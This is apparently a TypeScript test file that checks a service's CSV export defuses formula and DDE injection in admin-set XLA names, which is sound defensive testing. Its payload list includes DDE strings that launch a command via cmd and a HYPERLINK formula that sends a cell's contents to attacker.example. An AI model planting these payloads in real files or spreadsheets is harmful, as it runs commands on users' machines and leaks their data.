/**
 * CSV injection (OWASP, "CSV Injection"): a cell a spreadsheet would run as a formula or a DDE
 * command must reach the file defused. An admin can put any text in an XLA's name, and the name
 * goes into the service owner's CSV export; each name below must come out inert — quoted and
 * led by an apostrophe — while an ordinary name comes out as it was written.
 */
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { attack } from './support/attacks';
import { MODULE, call, ok, projectContext, startAdversary, type Adversary } from './support/site';

/** Leading characters spreadsheets treat as the start of a formula or command (ASCII and full-width forms). */
const DANGEROUS: ReadonlyArray<readonly [string, string]> = [
  ['equals', '=1+1'],
  ['plus', '+1+1'],
  ['minus', '-1+1'],
  ['at', '@SUM(A1:A9)'],
  ['DDE pipe', "=cmd|' /C calc'!A0"],
  ['leading pipe', "|cmd' /C calc'!A0"],
  ['full-width equals', '＝1+1'],
  ['full-width plus', '＋1+1'],
  ['full-width minus', '－1+1'],
  ['full-width at', '＠SUM(A1:A9)'],
  ['hyperlink', '=HYPERLINK("http://attacker.example/?q="&A1,"Click")'],
];

describe('CSV formula characters', () => {
  let a: Adversary;

  beforeAll(async () => {
    a = await startAdversary();
  });

  afterAll(async () => {
    await a?.close();
  });

  /** Saves an XLA with this name and returns the cells of the export that carry it. */
  async function exported(name: string): Promise<string[]> {
    const id = `x${Math.abs([...name].reduce((h, c) => (h * 31 + c.charCodeAt(0)) | 0, 7))}`;
    ok(
      await call(
        a.h,
        MODULE.admin,
        'saveXla',
        { xla: { id, name, indicators: [{ id: 'csat', weight: 1, floor: 0.5, target: 0.9, prior: 0.8 }] } },
        a.people.admin,
      ),
    );
    const csv = ok(
      await call<{ csv: string }>(a.h, MODULE.project, 'exportCsv', {}, a.people.agent, projectContext(a.h, 'IT')),
    ).csv;
    const rows = csv
      .split('\r\n')
      .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => (m[1] ?? '').replace(/""/g, '"')));
    return rows.filter((cells) => cells[0] === id).map((cells) => cells[1] ?? '');
  }

  for (const [label, name] of DANGEROUS)
    attack('CSV formulas', `an XLA named with a ${label} is defused in the export`, async () => {
      const cells = await exported(name);
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) {
        expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
        expect(cell.slice(1)).toBe(name);
      }
    });

  attack('CSV formulas', 'an ordinary name is exported as written', async () => {
    const cells = await exported('People get back to work fast');
    expect(new Set(cells)).toEqual(new Set(['People get back to work fast']));
  });
  attack('CSV formulas', 'a name with quotes and a line break stays inside one cell', async () => {
    const name = 'Say "hi"\nthen =1+1';
    const cells = await exported(name);
    expect(new Set(cells)).toEqual(new Set([name]));
  });
});
